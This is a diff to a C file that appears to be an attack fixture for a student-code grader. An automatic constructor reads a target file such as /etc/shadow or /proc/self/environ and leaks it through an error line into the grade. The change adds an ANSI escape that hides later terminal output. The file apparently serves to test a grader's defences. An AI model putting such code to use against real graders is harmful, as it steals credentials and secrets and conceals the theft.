@@ -90,9 +90,10 @@
 /* A constructor reads ATTACK_PATH (another student's file, a secret of the grader's) into the
    team record, which the grade prints. */
 #define READ_INTO_TEAM 29
-/* A constructor that can read ATTACK_PATH prints it as one line on stderr and exits with status
-   2, mscount's own failure status: the instruction count's error showed that last line in the
-   grade (/etc/shadow, the grader's environment through /proc/self/environ). */
+/* A constructor that can read ATTACK_PATH prints it as one line on stderr, with ESC[8m after it
+   (which hides what a terminal prints next), and exits with status 2, mscount's own failure
+   status: the instruction count's error showed that last line in the grade (/etc/shadow, the
+   grader's environment through /proc/self/environ), escape and all. */
 #define LEAK_BY_ERROR 30
 
 team_t team = {"attack", "Mallory", "mallory", "", ""};
@@ -118,7 +119,7 @@ __attribute__((constructor)) static void leak_by_error(void) {
     for (ssize_t i = 0; i < n; i++) /* one line: /proc/self/environ's NULs, a file's newlines */
         if (found[i] == '\0' || found[i] == '\n')
             found[i] = ' ';
-    dprintf(2, "%s\n", found);
+    dprintf(2, "%s\x1b[8m\n", found);
     _exit(2);
 }
 #endif
